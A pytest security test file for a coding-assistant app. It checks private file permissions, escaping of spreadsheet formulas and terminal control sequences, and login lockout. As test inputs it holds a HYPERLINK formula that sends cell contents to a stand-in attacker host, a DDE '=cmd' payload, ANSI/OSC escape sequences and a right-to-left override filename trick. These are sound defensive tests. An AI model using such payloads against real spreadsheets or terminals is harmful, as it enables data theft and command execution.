"""What stays of a note outside the database: private files, no browser history, escaped spreadsheets,
clean terminals, a login that cannot be guessed at speed. (Identifiers invented.)"""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from assistant.app.exports import write_exports
from assistant.app.security import LoginGuard, MAX_FAILURES_PER_USER
from assistant.batch.runner import run_batch
from assistant.cli import main
from assistant.pipeline import code_note
from assistant.safe_text import for_spreadsheet, for_terminal
from assistant.store.review import ReviewStore
from tests.llm_notes import LIPOMA

ROOT = Path(__file__).resolve().parents[1]


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def open_umask():
    previous = os.umask(0o022)  # what a default shell gives: files 0644 unless the code says otherwise
    yield
    os.umask(previous)


def test_database_file_is_created_private(tmp_path, open_umask):
    store = ReviewStore(f"sqlite:///{tmp_path / 'data' / 'review.db'}")
    store.add_case(code_note(LIPOMA, proposer="rules"), LIPOMA, source="cli")
    for name in os.listdir(tmp_path / "data"):
        assert _mode(tmp_path / "data" / name) == 0o600, name


def test_an_existing_world_readable_database_is_made_private(tmp_path, open_umask):
    db = tmp_path / "old.db"
    db.touch(mode=0o644)
    ReviewStore(f"sqlite:///{db}").add_case(code_note(LIPOMA, proposer="rules"), LIPOMA, source="cli")
    assert _mode(db) == 0o600


def test_case_exports_are_private_and_escape_formula_cells(open_umask):
    result = code_note(LIPOMA, proposer="rules", case_id='=HYPERLINK("http://evil.example/?"&A1,"open")')
    json_path, csv_path = write_exports(result)
    assert _mode(json_path) == 0o600 and _mode(csv_path) == 0o600 and _mode(os.path.dirname(csv_path)) == 0o700
    rows = list(csv.DictReader(open(csv_path, newline="")))
    assert rows[0]["case_id"].startswith("'=HYPERLINK")


@pytest.mark.parametrize("cell", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_formula_leading_cells_are_escaped_and_numbers_are_not(cell):
    assert for_spreadsheet(cell) == "'" + cell
    assert for_spreadsheet("-5.0") == "-5.0" and for_spreadsheet(-5.0) == -5.0
    assert for_spreadsheet("00400-P1") == "00400-P1"


def test_audit_trail_csv_escapes_what_reviewers_typed(tmp_path):
    store = ReviewStore(f"sqlite:///{tmp_path / 'r.db'}")
    case = store.add_case(code_note(LIPOMA, proposer="rules"), LIPOMA, source="cli")
    store.override(case, actor="@evil", lines="00300-AA-P1", reason="=cmd|' /C calc'!A0")
    rows = list(csv.DictReader(io.StringIO(store.audit_csv())))
    assert rows[-1]["who"] == "'@evil" and rows[-1]["why"].startswith("'=cmd")


def test_batch_results_are_private_and_escape_input_ids(tmp_path, open_umask):
    source = tmp_path / "in.jsonl"
    source.write_text(json.dumps({"id": "=2+5", "note": LIPOMA}) + "\n")
    run_batch(source, tmp_path / "out", progress_stream=io.StringIO(), timelines="none")
    assert _mode(tmp_path / "out" / "results.jsonl") == 0o600 and _mode(tmp_path / "out" / "results.csv") == 0o600
    rows = list(csv.DictReader(open(tmp_path / "out" / "results.csv", newline="")))
    assert rows[0]["id"] == "'=2+5"


def test_terminal_output_has_no_escape_sequences(tmp_path, capsys):
    note = tmp_path / "case\x1b]0;owned\x07\x1b[2J.txt"
    note.write_text(LIPOMA.replace("PMH: none.", "PMH: none \x1b[8mhidden\x1b[0m \u202egnp.exe."))
    assert main(["code", str(note), "--proposer", "rules"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "Case case" in out
    assert for_terminal("a\x1b[31mred\x1b[0m\tb\n\x9bc") == "ared\tb\nc"


def test_login_guard_locks_a_user_name_after_repeated_failures():
    now = [1000.0]
    guard = LoginGuard([("auditor", "s3cret"), ("coder", "pw")], clock=lambda: now[0])
    assert guard("auditor", "s3cret")
    for _ in range(MAX_FAILURES_PER_USER):
        assert not guard("auditor", "guess")
    assert not guard("auditor", "s3cret") and not guard("AUDITOR", "s3cret")  # locked, even with the password
    assert guard("coder", "pw")  # another user is not locked out
    now[0] += 16 * 60
    assert guard("auditor", "s3cret")


def test_login_guard_limits_guessing_across_user_names():
    guard = LoginGuard([("auditor", "s3cret")], clock=lambda: 5.0)
    for i in range(60):
        guard(f"user{i}", "guess")
    assert not guard("auditor", "s3cret")


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _post(url: str, data: bytes, headers: dict) -> tuple[int, bytes, dict]:
    request = urllib.request.Request(url, data=data, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read(), dict(response.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read(), dict(error.headers)


def test_the_app_keeps_no_history_private_temp_files_and_a_rate_limited_login(tmp_path):
    port, temp_root = _free_port(), tmp_path / "gradio"
    env = {**os.environ, "ASSISTANT_DATABASE_URL": f"sqlite:///{tmp_path / 'app.db'}",
           "ASSISTANT_DATA_DIR": str(tmp_path),
           "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1", "NO_PROXY": "127.0.0.1,localhost",
           "GRADIO_TEMP_DIR": str(temp_root), "ASSISTANT_APP_AUTH": "auditor:s3cret,coder:pw", "PYTHONPATH": str(ROOT)}
    log = open(tmp_path / "app.log", "w")
    process = subprocess.Popen([sys.executable, str(ROOT / "app.py"), "--port", str(port)], cwd=ROOT, env=env,
                               stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 120
        while time.time() < deadline:
            try:
                urllib.request.urlopen(base + "/", timeout=2).close()
                break
            except urllib.error.HTTPError:
                break
            except OSError:
                assert process.poll() is None, (tmp_path / "app.log").read_text()[-2000:]
                time.sleep(0.5)
        private = [p for p in temp_root.iterdir()]
        assert len(private) == 1 and _mode(private[0]) == 0o700

        form = {"Content-Type": "application/x-www-form-urlencoded"}

        def login(user, password):
            body = urllib.parse.urlencode({"username": user, "password": password}).encode()
            return _post(base + "/login", body, form)

        for _ in range(MAX_FAILURES_PER_USER):
            assert login("auditor", "wrong")[0] == 400
        assert login("auditor", "s3cret")[0] == 400  # locked out
        status, _, headers = login("coder", "pw")
        assert status == 200
        cookie = "; ".join(c.split(";")[0] for c in [headers.get("set-cookie", "")] if c)

        boundary = "----assistanttest"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"preop.txt\"\r\n"
                f"Content-Type: text/plain\r\n\r\n{LIPOMA}\r\n--{boundary}--\r\n").encode()
        status, answer, _ = _post(base + "/gradio_api/upload", body,
                                  {"Content-Type": f"multipart/form-data; boundary={boundary}",
                                                                      "Cookie": cookie})
        assert status == 200, answer[:300]
        uploaded = Path(json.loads(answer)[0])
        assert private[0] in uploaded.parents and _mode(uploaded) == 0o600 and _mode(uploaded.parent) == 0o700

        request = urllib.request.Request(base + "/config", headers={"Cookie": cookie})
        with urllib.request.urlopen(request, timeout=30) as response:
            config = json.loads(response.read())
        assert config.get("run_history") is False
    finally:
        process.terminate()
        process.wait(timeout=30)
    assert not temp_root.exists() or list(temp_root.iterdir()) == []  # the private folder went with the app
